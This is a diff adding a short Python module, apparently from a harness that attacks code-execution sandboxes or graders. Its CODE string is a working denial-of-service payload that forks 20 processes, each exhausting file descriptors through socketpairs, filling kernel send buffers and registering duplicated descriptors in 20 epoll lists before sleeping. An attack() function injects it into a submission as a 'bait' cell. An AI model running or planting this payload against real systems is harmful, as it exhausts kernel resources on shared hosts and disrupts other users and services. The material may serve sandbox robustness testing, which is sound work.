@@ -1,0 +1,45 @@
+"""Opens files, pipes, sockets, timers and epoll lists up to the limit, in a family, fills their buffers and
+enters every file in every list under every number."""
+
+CODE = r"""
+import os, select, socket, time
+
+
+def pile():
+    keep, lists = [], [select.epoll() for _ in range(20)]
+    try:
+        while True:
+            left, right = socket.socketpair()
+            keep += [left, right]
+            left.setblocking(False)
+            left.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 24)
+            try:
+                while True:
+                    left.send(bytes(65536))
+            except BlockingIOError:
+                pass
+    except OSError:
+        pass
+    for item in keep[-60:]:
+        item.close()
+    for poll in lists:
+        for item in keep[:-60]:
+            for number in range(190, 250):
+                try:
+                    os.dup2(item.fileno(), number)
+                    poll.register(number, 1)
+                    os.close(number)
+                except OSError:
+                    pass
+    time.sleep(1000)
+
+
+for _ in range(20):
+    if os.fork() == 0:
+        pile()
+pile()
+"""
+
+
+def attack(submission):
+    submission.add(submission.bait.cell(CODE))
